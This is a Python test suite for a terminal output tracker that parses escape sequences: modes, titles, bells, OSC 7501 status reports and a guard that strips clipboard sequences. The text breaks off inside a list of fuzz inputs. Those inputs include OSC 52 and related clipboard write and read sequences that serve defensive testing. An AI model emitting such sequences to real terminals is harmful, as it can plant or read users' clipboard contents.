"""cuewrap.term.tracker: the incremental output scanner (modes, title, BEL, OSC 7501, safety).

The properties compare the fast tracker, fed in random splits, with ``Ref``: a slow
byte-at-a-time state machine written here from the model in the tracker's docstring.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import Callable, Iterator
from unittest.mock import patch

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cuewrap.facts import ChildProgress, ProgramStatus
from cuewrap.term import tracker
from cuewrap.term.clipboard import GUARDED_PS, GUARDED_WHATS, ClipboardSequence, GuardedSequence
from cuewrap.term.notices import NoticeParser, NoticeProtocol, protocol_of
from cuewrap.term.tracker import (
    CAP,
    QUIET_MODES,
    Bell,
    FocusMayBeOff,
    ModeChange,
    OutputEvent,
    OutputTracker,
    TitleChange,
)

pytestmark = pytest.mark.unit

ST = b"\x1b\\"

# recorded from Pi 1.4.0 (docs/pi-facts.md#escape-sequences)
PI_STARTUP = (
    b"\x1b[?1049h\x1b[?7l\x1b[?1000h\x1b[?1002h\x1b[?1003h\x1b[?1006h\x1b[?1004h"
    b"\x1b[?2004h\x1b[>7u\x1b[?u\x1b]7501;?\x1b\\\x1b[c\x1b[c\x1b[?2031h"
    b"\x1b]10;?\x1b\\\x1b]11;?\x1b\\\x1b]4;0;?\x1b\\\x1b[>4;2m"
    b"\x1b]0;\xcf\x80 - work\x07"
)
PI_FRAME = (
    "\x1b[?2026h\x1b[?25l\x1b[38;2;129;161;193m── ⠋ Working ───\x1b[39m\x1b[12;1H"
    "\x1b[2K  ↑200 ↓20 0.1%/128k (auto)    fake-model\x1b[?2026l"
).encode()
PI_EXIT = (
    b"\x1b[?2031l\x1b[<u\x1b[>4;0m\x1b[?1006l\x1b[?1004l\x1b[?1003l\x1b[?1002l\x1b[?1000l"
    b"\x1b[?7h\x1b[?25h\x1b[?2004l\x1b[?1049l"
)
WORKING = b"\x1b]7501;state=working:app=pi:msg=bXlzZXNzaW9u\x1b\\"
DONE = b"\x1b]7501;state=done:app=pi\x07"
BLOCKED = b"\x1b]7501;state=blocked:app=pi:kind=permission\x1b\\"
QUERY = b"\x1b]7501;?\x1b\\"


def feed_all(t: OutputTracker, chunks: list[bytes]) -> tuple[bytes, list[OutputEvent]]:
    out = bytearray()
    events: list[OutputEvent] = []
    for c in chunks:
        s = t.feed(c)
        out += s.out
        events += s.events
    out += t.flush()
    return bytes(out), events


# --- modes, title, bell -----------------------------------------------------------------------


def test_pi_startup_modes_and_title() -> None:
    t = OutputTracker()
    s = t.feed(PI_STARTUP)
    assert s.out == PI_STARTUP  # the query is not a report: passes through
    assert s.safe
    modes = [(e.mode, e.on) for e in s.events if isinstance(e, ModeChange)]
    assert modes == [
        (1049, True),
        (7, False),
        (1000, True),
        (1002, True),
        (1003, True),
        (1006, True),
        (1004, True),
        (2004, True),
        (2031, True),
    ]
    assert s.events[-1] == TitleChange("π - work")
    assert t.title == "π - work"
    assert t.modes == {1049, 1000, 1002, 1003, 1006, 1004, 2004, 2031}
    assert t.modes_off == {7}
    assert t.kitty_keyboard_depth == 1
    assert t.modify_other_keys
    assert not any(isinstance(e, ProgramStatus) for e in s.events)


def test_restore_after_pi_startup() -> None:
    t = OutputTracker()
    t.feed(PI_STARTUP + PI_FRAME[:20])  # killed in the middle of a frame
    r = t.restore_sequence()
    assert r.startswith(b"\x1b[?2026l")  # end the frame first
    for piece in (
        b"\x1b[<1u",
        b"\x1b[>4;0m",
        b"\x1b[?1000l",
        b"\x1b[?1002l",
        b"\x1b[?1003l",
        b"\x1b[?1006l",
        b"\x1b[?1004l",
        b"\x1b[?2004l",
        b"\x1b[?2031l",
        b"\x1b[?7h",
        b"\x1b[?25h",
    ):
        assert piece in r, piece
    assert r.endswith(b"\x1b[?1049l")  # leave the alt screen last
    assert r.index(b"\x1b[<1u") < r.index(b"\x1b[?1049l")  # kitty stack is per screen


def test_restore_empty_after_clean_exit() -> None:
    t = OutputTracker()
    assert t.restore_sequence() == b""
    t.feed(PI_STARTUP + PI_FRAME + PI_EXIT)
    assert t.modes == {7, 25}  # explicitly set back on: their defaults
    assert not t.modes_off & {7, 25}
    assert t.kitty_keyboard_depth == 0
    assert not t.modify_other_keys
    assert t.restore_sequence() == b""


def test_regular_mode_has_no_focus_or_alt_screen() -> None:
    t = OutputTracker()
    t.feed(b"\x1b[?2004h\x1b[>7u\x1b]0;\xcf\x80 - work\x07")
    assert t.restore_sequence() == b"\x1b[<1u\x1b[?2004l"


def test_restore_alt_screen_variants_and_cursor() -> None:
    t = OutputTracker()
    t.feed(b"\x1b[?47h\x1b[?25l\x1b[?1h")
    assert t.restore_sequence() == b"\x1b[?1l\x1b[?25h\x1b[?47l"
    t = OutputTracker()
    t.feed(b"\x1b[?1047h\x1b[?1049h\x1b[?1049l")
    assert t.restore_sequence() == b"\x1b[?1047l"


def test_several_modes_in_one_csi() -> None:
    t = OutputTracker()
    s = t.feed(b"\x1b[?1000;1006;;1004h")
    assert s.events == [ModeChange(1000, True), ModeChange(1006, True), ModeChange(1004, True)]
    s = t.feed(b"\x1b[?1000;1006l")
    assert t.modes == {1004}


def test_malformed_private_csi_ignored() -> None:
    t = OutputTracker()
    s = t.feed(b"\x1b[?1049$p\x1b[?10a49h\x1b[?1049x\x1b[1049h\x1b[?999999h")
    assert s.events == []  # DECRQM, bad param, other final, ANSI mode, out of range
    assert t.modes == set()


def test_c0_inside_csi_is_executed() -> None:
    t = OutputTracker()
    s = t.feed(b"\x1b[?10\r\n49h")
    assert s.events == [ModeChange(1049, True)]
    assert s.out == b"\x1b[?10\r\n49h"


def test_can_aborts_a_sequence() -> None:
    t = OutputTracker()
    s = t.feed(b"\x1b[?1049\x18h\x1b]0;x\x1ay\x07")
    assert s.events == [Bell()]  # the CSI and the OSC were cancelled; the BEL is bare
    assert t.modes == set()


def test_kitty_keyboard_stack() -> None:
    t = OutputTracker()
    t.feed(b"\x1b[>1u\x1b[>3u\x1b[>31u")
    assert t.kitty_keyboard_depth == 3
    t.feed(b"\x1b[<2u")
    assert t.kitty_keyboard_depth == 1
    t.feed(b"\x1b[<u")
    assert t.kitty_keyboard_depth == 0
    t.feed(b"\x1b[<5u")
    assert t.kitty_keyboard_depth == 0
    t.feed(b"\x1b[=5;1u")
    assert t.kitty_keyboard_depth == 1
    assert t.restore_sequence() == b"\x1b[<1u"
    t.feed(b"\x1b[?u")  # query: no change
    assert t.kitty_keyboard_depth == 1


def test_kitty_stack_changes_apply_in_stream_order() -> None:
    t = OutputTracker()
    t.feed(b"\x1b[<u\x1b[?25l\x1b[>1u")  # pop (nothing to pop), then push
    assert t.kitty_keyboard_depth == 1
    t.feed(b"\x1b[>1u\x1b[=0u\x1b[<2u\x1b[>1u\x1b[?25h")
    assert t.kitty_keyboard_depth == 1


def test_modify_other_keys() -> None:
    t = OutputTracker()
    t.feed(b"\x1b[>4;2m")
    assert t.modify_other_keys
    t.feed(b"\x1b[>4;0m")
    assert not t.modify_other_keys
    t.feed(b"\x1b[>4;1m")
    t.feed(b"\x1b[>4m")
    assert not t.modify_other_keys
    t.feed(b"\x1b[>4;1m\x1b[>1;2m")  # modifyCursorKeys: no effect
    assert t.modify_other_keys
    assert t.restore_sequence() == b"\x1b[>4;0m"


def test_title_osc0_and_osc2_bel_or_st() -> None:
    t = OutputTracker()
    s = t.feed(b"\x1b]0;one\x07\x1b]2;two\x1b\\\x1b]1;icon\x07\x1b]2;bad\xff\x07")
    assert s.events == [TitleChange("one"), TitleChange("two"), TitleChange("bad\ufffd")]
    assert t.title == "bad\ufffd"


def test_title_split_across_chunks_passes_through() -> None:
    t = OutputTracker()
    a = t.feed(b"x\x1b]0;\xcf")
    assert a.out == b"x\x1b]0;\xcf" and a.events == [] and not a.safe
    b = t.feed(b"\x80 - wo")
    assert b.out == b"\x80 - wo" and b.events == [] and not b.safe
    c = t.feed(b"rk\x07y")
    assert c.out == b"rk\x07y" and c.events == [TitleChange("π - work")] and c.safe


def test_title_split_inside_st() -> None:
    t = OutputTracker()
    a = t.feed(b"\x1b]2;name\x1b")
    assert a.out == b"\x1b]2;name\x1b"  # an ESC inside an open OSC is not held
    assert not t.held
    b = t.feed(b"\\")
    assert b.events == [TitleChange("name")] and b.safe


def test_bell_only_in_ground() -> None:
    t = OutputTracker()
    s = t.feed(b"a\x07\x1b]0;t\x07\x1bP\x07\x1b\\\x1b[1\x07m\x07")
    assert s.events == [Bell(), TitleChange("t"), Bell()]


def test_bell_after_split_osc() -> None:
    t = OutputTracker()
    assert t.feed(b"\x1b]0;ab").events == []
    assert t.feed(b"c\x07\x07").events == [TitleChange("abc"), Bell()]


# --- OSC 7501 ---------------------------------------------------------------------------------


def test_status_report_consumed() -> None:
    t = OutputTracker()
    s = t.feed(b"a" + WORKING + b"b" + DONE + b"c")
    assert s.out == b"abc"
    assert s.events == [
        ProgramStatus("working", "pi", None, True),
        ProgramStatus("done", "pi", None, False),
    ]
    assert t.feed(BLOCKED).events == [ProgramStatus("blocked", "pi", "permission", False)]


def test_status_never_keeps_msg() -> None:
    t = OutputTracker()
    (ev,) = t.feed(WORKING).events
    assert "bXlzZXNzaW9u" not in repr(ev)


def test_status_passes_through_when_not_consumed() -> None:
    t = OutputTracker(consume_status=False)
    s = t.feed(WORKING[:10])
    assert s.out == WORKING[:10] and not t.held
    s = t.feed(WORKING[10:] + DONE)
    assert s.out == WORKING[10:] + DONE
    assert [e.state for e in s.events if isinstance(e, ProgramStatus)] == ["working", "done"]


def test_consume_status_is_settable() -> None:
    t = OutputTracker()
    assert t.feed(DONE).out == b""
    t.consume_status = False
    assert t.feed(DONE).out == DONE


def test_query_and_malformed_pass_through() -> None:
    t = OutputTracker()
    for data in (
        QUERY,
        b"\x1b]7501;app=pi\x1b\\",
        b"\x1b]7501;state=\x1b\\",
        b"\x1b]7501;state=a b\x07",
        b"\x1b]7501\x07",
    ):
        s = t.feed(data)
        assert s.out == data and s.events == [], data


def test_status_split_is_held_then_consumed() -> None:
    t = OutputTracker()
    s = t.feed(b"text\x1b]75")
    assert s.out == b"text" and s.safe and t.held
    s = t.feed(b"01;state=idle:app=pi")
    assert s.out == b"" and t.held
    s = t.feed(b"\x1b")  # the ESC of the ST
    assert s.out == b"" and t.held
    s = t.feed(b"\\more")
    assert s.out == b"more" and s.events == [ProgramStatus("idle", "pi")]
    assert not t.held


def test_lone_esc_held_and_flushed() -> None:
    t = OutputTracker()
    s = t.feed(b"abc\x1b")
    assert s.out == b"abc" and s.safe and t.held
    assert t.flush() == b"\x1b"
    assert not t.held and not t.safe
    assert t.flush() == b""
    s = t.feed(b"[1mx")
    assert s.out == b"[1mx" and s.safe


def test_held_prefix_that_is_not_a_report_is_released() -> None:
    t = OutputTracker()
    assert t.feed(b"\x1b]7").out == b""
    s = t.feed(b"7;x\x07")
    assert s.out == b"\x1b]77;x\x07" and not t.held


def test_flushed_report_is_not_consumed_but_reported() -> None:
    t = OutputTracker()
    t.feed(b"\x1b]7501;state=work")
    assert t.flush() == b"\x1b]7501;state=work"
    s = t.feed(b"ing\x07")
    assert s.out == b"ing\x07"
    assert s.events == [ProgramStatus("working")]


def test_held_report_growing_past_cap_is_released() -> None:
    t = OutputTracker()
    head = b"\x1b]7501;state=working:msg="
    s = t.feed(head + b"A" * (CAP - len(head)))
    assert s.out == b"" and t.held
    s = t.feed(b"A")
    assert s.out == head + b"A" * (CAP - len(head) + 1) and not t.held
    s = t.feed(b"A\x1b\\")
    assert s.out == b"A\x1b\\" and s.events == []  # given up


def test_report_not_consumed_inside_other_sequence_or_char() -> None:
    t = OutputTracker()
    data = b"\x1b[1" + DONE + b"m"  # the report's ESC aborts a CSI
    s = t.feed(data)
    assert s.out == data
    assert s.events == [ProgramStatus("done", "pi")]
    t = OutputTracker()
    data = b"\xe2" + DONE + b"\x82\xac"  # in the middle of a UTF-8 character
    assert t.feed(data).out == data
    t = OutputTracker()
    assert t.feed(b"\xe2").out == b"\xe2"
    assert t.feed(b"\x1b]75").out == b"\x1b]75"  # not held: could never be removed
    assert not t.held


def test_no_hold_when_consume_false() -> None:
    t = OutputTracker(consume_status=False)
    s = t.feed(b"abc\x1b")
    assert s.out == b"abc\x1b" and not t.held and not s.safe


# --- safe points ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "safe"),
    [
        (b"plain", True),
        (b"\x1b[38;5;1", False),
        (b"\x1b[38;5;1m", True),
        (b"\x1b]0;title", False),
        (b"\x1bP1$r", False),
        (b"\x1bPq#0\x07", False),  # BEL does not end a DCS
        (b"\x1b_Gf=1", False),
        (b"\x1b(", False),
        (b"\x1b(B", True),
        (b"\x1b7", True),
        (b"\xcf", False),
        (b"\xe2\x94", False),
        (b"\xe2\x94\x80", True),
        (b"\xf0\x9f\x98", False),
        (b"\xf0\x9f\x98\x80", True),
        (b"\x80\x80", True),  # stray continuation bytes
        (b"\x1b[1\xe2", False),  # non-ASCII aborts the CSI, then starts a character
        (b"\x1b\xc3\xa9", True),
        (b"\x1b\n", False),  # C0 after ESC: still in the escape
        (b"\x1b[?1049h\x1b[?2026h", True),
    ],
)
def test_safe_examples(data: bytes, safe: bool) -> None:
    t = OutputTracker(consume_status=False)
    assert t.feed(data).safe is safe
    assert t.safe is safe


def test_safe_across_chunks_utf8() -> None:
    t = OutputTracker()
    assert not t.feed(b"ab\xe2").safe
    assert not t.feed(b"\x94").safe
    assert t.feed(b"\x80").safe
    assert not t.feed(b"\xf0").safe
    assert not t.feed(b"\x9f\x98").safe
    assert t.feed(b"\x80 ok").safe


def test_empty_feed_keeps_state() -> None:
    t = OutputTracker()
    assert not t.feed(b"\x1b[1").safe
    s = t.feed(b"")
    assert s.out == b"" and not s.safe and s.events == []


def test_long_sequences_bounded() -> None:
    t = OutputTracker()
    big = b"\x1bPq" + b"#" * 100_000
    s = t.feed(big)
    assert s.out == big and not s.safe
    s = t.feed(b"#" * 10 + ST + b"x")
    assert s.safe
    assert len(t._pend) <= CAP


def test_long_title_is_given_up_whole_or_split() -> None:
    osc = b"\x1b]0;" + b"x" * (CAP + 10) + b"\x07"
    assert OutputTracker().feed(osc).events == []
    t = OutputTracker()
    assert feed_all(t, [osc[:100], osc[100:]]) == (osc, [])


# --- the reference model -----------------------------------------------------------------------

GROUND, ESCS, ESCINT, CSI, OSC, OSCESC, STR = range(7)
TRACKED = {1, 7, 9, 12, 25, 47, 1000, 1001, 1002, 1003, 1004, 1005, 1006, 1007}
TRACKED |= {1015, 1016, 1047, 1049, 2004, 2026, 2027, 2031, 2048}
TOKEN = re.compile(rb"[A-Za-z0-9_.+-]{1,64}")


class Ref:
    """Byte-at-a-time reference of the tracker's model (see tracker module docstring)."""

    def __init__(
        self,
        consume: bool = True,
        notices: Always | None = None,
        clip: Clip | None = None,
        guard: bool = False,
    ) -> None:
        self.consume = consume
        self.notices = notices
        self.clip = clip
        self.guard = guard  # guard.sequences = own
        self.sync = False  # a frame is drawn: the last exact CSI ? 2026 h / l
        self.framed = False  # ... at the start of the open sequence
        self.replaced: dict[int, bytes] = {}  # removal start -> bytes put in its place
        self.kitty = False  # the answer for a kitty write begun (OSC 5522)
        self.parser = NoticeParser()
        self.state = GROUND
        self.u8 = 0
        self.events: list[OutputEvent] = []
        self.removed: list[tuple[int, int]] = []
        self.modes: set[int] = set()
        self.modes_off: set[int] = set()
        self.depth = 0
        self.mok = False
        self.title: str | None = None
        self.progress: int | None = None
        self.start = 0
        self.ok_before = True
        self.params = bytearray()
        self.inter = bytearray()
        self.bad = False
        self.content = bytearray()
        self.osc_c0 = False

    @property
    def safe(self) -> bool:
        return self.state == GROUND and self.u8 == 0

    def run(self, data: bytes) -> list[bool]:
        """Feed everything; return the safe flag after each prefix (index = length)."""
        safe = [self.safe]
        for i, b in enumerate(data):
            self.step(i, b)
            safe.append(self.safe)
        if self.clip is not None or self.guard:
            self.finish(len(data))
        return safe

    def guarded(self, final: bool) -> tuple[str, str] | None:
        """The open OSC inside a frame with the guard on: ("clip" | "maybe", what), or None."""
        if not (self.guard and self.framed):
            return None
        ps, semi, _ = bytes(self.content).partition(b";")
        digits = re.fullmatch(rb"[0-9]*", ps) is not None
        if semi:
            what = GUARDED_PS.get(ps.lstrip(b"0")) if digits else None
            return None if what is None else ("clip", what)
        if not final and digits and any(g.startswith(ps.lstrip(b"0")) for g in GUARDED_PS):
            return "maybe", ""
        return None

    # -- the clipboard guard: any OSC 52, any terminator, removed whole ----------------------

    def classify(self, final: bool) -> tuple[str, bool, str]:
        """The open OSC's content so far: ("clip" | "maybe" | "no", read, what)."""
        g = self.guarded(final)
        if g is not None:
            return g[0], False, g[1]
        if self.clip is None:
            return "no", False, ""
        ps, semi, rest = bytes(self.content).partition(b";")
        if not semi:
            short = ps.lstrip(b"0")
            digits = re.fullmatch(rb"[0-9]*", ps) is not None
            nums = (b"52", b"1337", b"5522")
            if not final and digits and any(n.startswith(short) for n in nums):
                return "maybe", False, ""
            return "no", False, ""
        if re.fullmatch(rb"0*52", ps):
            _, semi2, pd = rest.partition(b";")
            if final or (semi2 and pd):
                return "clip", bool(semi2) and pd[:1] == b"?", "osc52"
            return "maybe", False, ""
        if re.fullmatch(rb"0*5522", ps):
            meta, semi2, payload = rest.partition(b";")
            if not semi2 and not final:
                return "maybe", False, ""
            types = [v for k, _, v in (i.partition(b"=") for i in meta.split(b":")) if k == b"type"]
            kind = types[0] if types else b""
            if kind in (b"read", b"write"):
                return "clip", kind == b"read", "osc5522"
            if kind == b"walias" or (kind == b"wdata" and payload):
                return "clip", False, "osc5522 data"
            if kind == b"wdata":
                return ("clip", False, "osc5522 end") if final else ("maybe", False, "")
            return "no", False, ""
        if not re.fullmatch(rb"0*1337", ps):
            return "no", False, ""
        if rest.startswith(b"Copy="):
            return "clip", False, "osc1337 Copy"
        if rest.startswith(b"File="):
            args, colon, _ = rest[5:].partition(b":")
            if not colon and not final:
                return "maybe", False, ""
        elif rest.startswith(b"MultipartFile="):
            args = rest[14:]
            if not final:
                return "maybe", False, ""
        else:
            keys = (b"Copy=", b"File=", b"MultipartFile=")
            maybe = not final and any(k.startswith(rest) for k in keys)
            return ("maybe" if maybe else "no"), False, ""
        if b"inline=1" in args.split(b";"):
            return "no", False, ""
        return "clip", False, "osc1337 File"

    def decide(self, read: bool, what: str) -> bool:
        """The policy's answer; a kitty write's data and end follow its start's."""
        if what in GUARDED_WHATS:
            return False  # content inside a frame: removed
        assert self.clip is not None
        if what in ("osc5522 data", "osc5522 end"):
            passed = self.kitty
            if what == "osc5522 end":
                self.kitty = False
            return passed
        passed = self.clip.clipboard(read, False)
        if what == "osc5522" and not read:
            self.kitty = passed
        return passed

    def clip_end(self, end: int) -> bool:
        """The open OSC ended at ``end`` (exclusive): a clipboard sequence is decided here."""
        cls, read, what = self.classify(True)
        if cls != "clip":
            return False
        passed = self.decide(read, what)
        if what in GUARDED_WHATS:
            self.events.append(GuardedSequence(what, end - self.start))
        else:
            self.events.append(ClipboardSequence(read, passed, end - self.start, what))
        if not passed:
            self.removed.append((self.start, end))
            if not self.ok_before:
                self.replaced[self.start] = b"\x1b\x18"
        return True

    def finish(self, n: int) -> None:
        """The end of the stream: an open sequence that is, or could still become, a
        clipboard sequence is never released undecided."""
        s = self.state
        if s == ESCS:
            if self.clip is not None or (self.guard and self.framed):
                self.removed.append((self.start, n))  # ESC [C0…]: could still become one
        elif s in (OSC, OSCESC):
            cls, read, what = self.classify(s == OSCESC)
            if cls == "clip":  # decided: passed or dropped
                if not self.decide(read, what):
                    self.removed.append((self.start, n))
                    if not self.ok_before:
                        self.replaced[self.start] = b"\x1b\x18"
                elif s == OSCESC:
                    self.removed.append((n - 1, n))  # passed; its last ESC is held back
            elif cls == "maybe":
                self.removed.append((self.start, n))  # held: not decidable yet
            elif s == OSCESC and (self.clip is not None or (self.guard and self.sync)):
                self.removed.append((n - 1, n))  # its ESC could still begin one

    def begin(self, i: int) -> None:
        self.framed = self.sync
        self.ok_before = self.state == GROUND and self.u8 == 0
        self.state = ESCS
        self.start = i
        self.u8 = 0

    def step(self, i: int, b: int) -> None:
        s = self.state
        if s == GROUND:
            if b == 0x1B:
                self.begin(i)
            elif b == 0x07:
                self.events.append(Bell())
                self.u8 = 0
            elif b < 0x80:
                self.u8 = 0
            elif b <= 0xBF:
                self.u8 = max(0, self.u8 - 1)
            elif 0xC2 <= b <= 0xDF:
                self.u8 = 1
            elif 0xE0 <= b <= 0xEF:
                self.u8 = 2
            elif 0xF0 <= b <= 0xF4:
                self.u8 = 3
            else:
                self.u8 = 0
            return
        if s == OSCESC:
            if b == 0x5C:
                self.dispatch_osc(i + 1)
                self.state = GROUND
                return
            removed = self.clip_end(i - 1) and bool(self.removed) and self.removed[-1][1] == i - 1
            self.begin(i - 1)  # a bare ESC ends it and begins the next sequence
            if removed:
                self.ok_before = True  # an OSC 52 taken out: the host is at a safe point
            self.step(i, b)
            return
        if b == 0x1B:
            if s == OSC:
                self.state = OSCESC
            else:
                self.begin(i)
            return
        if b in (0x18, 0x1A):
            if s == OSC:
                self.clip_end(i + 1)
            self.state = GROUND
            return
        if s == ESCS:
            if b < 0x20 or b == 0x7F:
                return
            if b <= 0x2F:
                self.state = ESCINT
            elif b == 0x5B:
                self.state = CSI
                self.params = bytearray()
                self.inter = bytearray()
                self.bad = False
            elif b == 0x5D:
                self.state = OSC
                self.content = bytearray()
                self.osc_c0 = False
            elif b in b"PX^_":
                self.state = STR
            elif b < 0x80:
                self.state = GROUND
            else:
                self.state = GROUND
                self.step(i, b)
        elif s == ESCINT:
            if b <= 0x2F or b == 0x7F:
                return
            self.state = GROUND
            if b >= 0x80:
                self.step(i, b)
        elif s == CSI:
            if b < 0x20 or b == 0x7F:
                return
            if b <= 0x2F:
                self.inter.append(b)
            elif b <= 0x3F:
                self.bad = self.bad or bool(self.inter)
                self.params.append(b)
            elif b <= 0x7E:
                self.state = GROUND
                self.dispatch_csi(b, i + 1)
            else:
                self.state = GROUND
                self.step(i, b)
        elif s == OSC:
            if b == 0x07:
                self.state = GROUND
                self.dispatch_osc(i + 1)
            elif b >= 0x20:
                self.content.append(b)
            else:
                self.osc_c0 = True

    @staticmethod
    def ints(p: bytes) -> list[int | None]:
        return [int(x) if x and len(x) <= 5 else None for x in p.split(b";")]

    def dispatch_csi(self, final: int, end: int) -> None:
        p = bytes(self.params)
        if p == b"?2026" and end - self.start == 8 and final in b"hl":  # exact: a frame
            self.sync = final == ord("h")
        if self.bad or self.inter or not p or end - self.start > CAP + 1:
            return
        if p[:1] not in (b"?", b">", b"<", b"=") or not re.fullmatch(rb"[0-9;]*", p[1:]):
            return
        vals = self.ints(p[1:])
        if p[:1] == b"?" and final in b"hl":
            on = final == ord("h")
            for v in vals:
                if v is None:
                    continue
                if v in TRACKED:
                    (self.modes.add if on else self.modes.discard)(v)
                    (self.modes_off.discard if on else self.modes_off.add)(v)
                if v not in QUIET_MODES:  # per-frame toggles: state only, no event
                    self.events.append(ModeChange(v, on))
        elif p[:1] == b">" and final == ord("u"):
            self.depth = min(self.depth + 1, 64)
        elif p[:1] == b">" and final == ord("m"):
            if vals == [None]:
                self.mok = False
            elif vals[0] == 4 and len(vals) <= 2:
                self.mok = len(vals) == 2 and bool(vals[1])
        elif p[:1] == b"<" and final == ord("u"):
            self.depth = max(0, self.depth - (vals[0] or 1))
        elif p[:1] == b"=" and final == ord("u") and vals[0]:
            self.depth = max(self.depth, 1)

    def dispatch_osc(self, end: int) -> None:
        if self.clip_end(end):
            return
        if end - self.start > CAP + 1:
            return
        c = bytes(self.content)
        ps, semi, rest = c.partition(b";")
        if not semi:
            return
        guarded = GUARDED_PS.get(ps.lstrip(b"0")) if re.fullmatch(rb"[0-9]*", ps) else None
        if guarded is not None and self.framed:  # content the child renders: never a fact
            if guarded in ("osc0", "osc2"):
                self.title = rest.decode("utf-8", "replace")
                self.events.append(TitleChange(self.title, True))
            return
        if ps in (b"0", b"2"):
            self.title = rest.decode("utf-8", "replace")
            controls = self.osc_c0 or re.search("[\x7f-\x9f]", self.title) is not None
            self.events.append(TitleChange(self.title, controls))
        elif ps == b"9" and rest[:2] == b"4;":
            if rest[2:3] in (b"0", b"1", b"2", b"3", b"4") and int(rest[2:3]) != self.progress:
                self.progress = int(rest[2:3])
                self.events.append(ChildProgress(self.progress))
        elif ps == b"7501":
            fields: dict[bytes, bytes] = {}
            for part in rest.split(b":"):
                k, eq, v = part.partition(b"=")
                if eq:
                    fields.setdefault(k, v)
            state = fields.get(b"state", b"")
            if not TOKEN.fullmatch(state):
                return
            app, kind = fields.get(b"app"), fields.get(b"kind")
            self.events.append(
                ProgramStatus(
                    state.decode(),
                    app.decode() if app and TOKEN.fullmatch(app) else None,
                    kind.decode() if kind and TOKEN.fullmatch(kind) else None,
                    bool(fields.get(b"msg")),
                )
            )
            if self.consume and self.ok_before:
                self.removed.append((self.start, end))
        elif (proto := protocol_of(ps)) is not None:
            policy = self.notices if self.ok_before else None
            notice, cut = self.parser.osc(proto, rest, policy)
            if notice is not None:
                self.events.append(notice)
            if cut:
                self.removed.append((self.start, end))


class Always:
    """A notice policy that consumes every child notification (or none)."""

    def __init__(self, answer: bool = True) -> None:
        self.answer = answer

    def consume(self, protocol: NoticeProtocol) -> bool:
        return self.answer


class Clip:
    """A clipboard policy by kind: writes pass or not, reads pass or not."""

    def __init__(self, write: bool = False, read: bool = False) -> None:
        self.write = write
        self.read = read
        self.asked: list[tuple[bool, bool]] = []

    def clipboard(self, read: bool, framed: bool) -> bool:
        self.asked.append((read, framed))
        return self.read if read else self.write


def expected(
    data: bytes,
    consume: bool,
    notices: Always | None = None,
    clip: Clip | None = None,
    guard: bool = False,
) -> tuple[bytes, Ref]:
    ref = Ref(consume, notices, clip, guard)
    ref.run(data)
    out = bytearray()
    pos = 0
    for s, e in sorted(ref.removed):
        out += data[pos:s]
        out += ref.replaced.get(s, b"")
        pos = e
    out += data[pos:]
    return bytes(out), ref


def test_reference_agrees_on_examples() -> None:
    out, ref = expected(b"a" + WORKING + b"\x1b[?1049h\x07" + QUERY, True)
    assert out == b"a\x1b[?1049h\x07" + QUERY
    assert ref.events == [
        ProgramStatus("working", "pi", None, True),
        ModeChange(1049, True),
        Bell(),
    ]


# --- generated streams -------------------------------------------------------------------------


def osc_token(ps: bytes, body: bytes, term: bytes) -> bytes:
    return b"\x1b]" + ps + b";" + body + term


def long_osc(total: int, term: bytes, report: bool, clip: bool = False) -> bytes:
    head = b"\x1b]7501;state=idle:msg=" if report else b"\x1b]2;"
    if clip:
        head = b"\x1b]52;c;"
    return head + b"x" * (total - len(head) - len(term)) + term


TEXT = st.one_of(
    st.text(max_size=6).map(lambda s: s.encode("utf-8", "surrogatepass")),
    st.sampled_from(["π - work", "── ⠋ Working ──", "😀é€", "plain text\r\n"]).map(str.encode),
    st.sampled_from([b"\xe2", b"\x94", b"\x80", b"\xf0\x9f", b"\xc3", b"\xff"]),
    st.binary(max_size=4),
)
CSI_TOKENS = st.builds(
    lambda marker, params, inter, c0, final: (
        b"\x1b[" + marker + b";".join(params) + c0 + inter + final
    ),
    st.sampled_from([b"", b"?", b"?", b">", b"<", b"="]),
    st.lists(
        st.sampled_from([b"", b"0", b"1", b"2", b"4", b"7", b"25", b"47", b"1000", b"1004"])
        | st.sampled_from([b"1006", b"1049", b"2004", b"2026", b"2031", b"123456", b"38"]),
        max_size=3,
    ),
    st.sampled_from([b"", b"", b"", b"$", b" "]),
    st.sampled_from([b"", b"", b"", b"\n", b"\x07", b"\x7f"]),
    st.sampled_from([b"h", b"l", b"m", b"u", b"H", b"p", b"c", b""]),
)
OSC_TOKENS = st.builds(
    osc_token,
    st.sampled_from([b"0", b"2", b"1", b"10", b"7501", b"9", b"133", b"x", b"777", b"99"])
    | st.sampled_from([b"52", b"052", b"5\x002", b"5", b"520", b"1337", b"01337", b"133"])
    | st.sampled_from([b"5522", b"55", b"05522"]),
    st.sampled_from(
        [
            b"title",
            "π - work".encode(),
            b"state=working:app=pi:msg=bXk=",
            b"state=done:app=pi",
            b"state=blocked:app=pi:kind=question",
            b"?",
            b"app=pi",
            b"state=",
            b"4;3",
            b"A",
            b"t\ni\x00t",
            b"notify;T;B;x",
            b"i=1:d=0;head",
            b"i=1:p=body;tail",
            b"i=1:p=close;",
            b";plain",
            b"e=1;aGk=",
            b"4;0",
            b"c;ZXZpbA==",
            b"c;?",
            b";?",
            b"c;",
            b"p\x01;\x02?",
            b"s0;Y3VybA",
            b"Copy=:QUJD",
            b"File=name=eA==;size=3:QUJD",
            b"File=inline=1:QUJD",
            b"File=inline=1;size=3",
            b"MultipartFile=name=eA==;size=3",
            b"MultipartFile=inline=1",
            b"FilePart=QUJD",
            b"SetUserVar=a=Yg==",
            b"type=write",
            b"type=wdata:mime=dGV4dA==;QUJD",
            b"type=wdata",
            b"type=walias:mime=dGV4dA==;dGV4dA==",
            b"type=read;dGV4dA==",
            b"type=read:status=OK",
        ]
    ),
    st.sampled_from([b"\x07", ST, ST, b"", b"\x1b", b"\x18"]),
)
MISC = st.sampled_from(
    [
        b"\x1b",
        b"\x1b\x1b",
        b"\x07",
        b"\x18",
        b"\x1a",
        b"\x1b\\",
        b"\x1b(B",
        b"\x1b(",
        b"\x1b7",
        b"\x1bc",
        b"\x1b\n[",
        b"\x1b\xc3\xa9",
        b"\x1bP1$r0m\x1b\\",
        b"\x1bPq#0;2\x07;0\x1b\\",
        b"\x1b_Gf=100;AAAA\x1b\\",
        b"\x1b^pm\x1b\\",
        b"\x1b]",
        b"\x1b]75",
        b"\x1b]7501;",
        b"\x1b]7501;state=idle",
        b"\x1b]9;",
        b"\x1b]99;i=2:d=0;x",
        b"\x1b]52;c;",
        b"\x1b]1337;Fi",
        b"\x1b]1337;File=size=1",
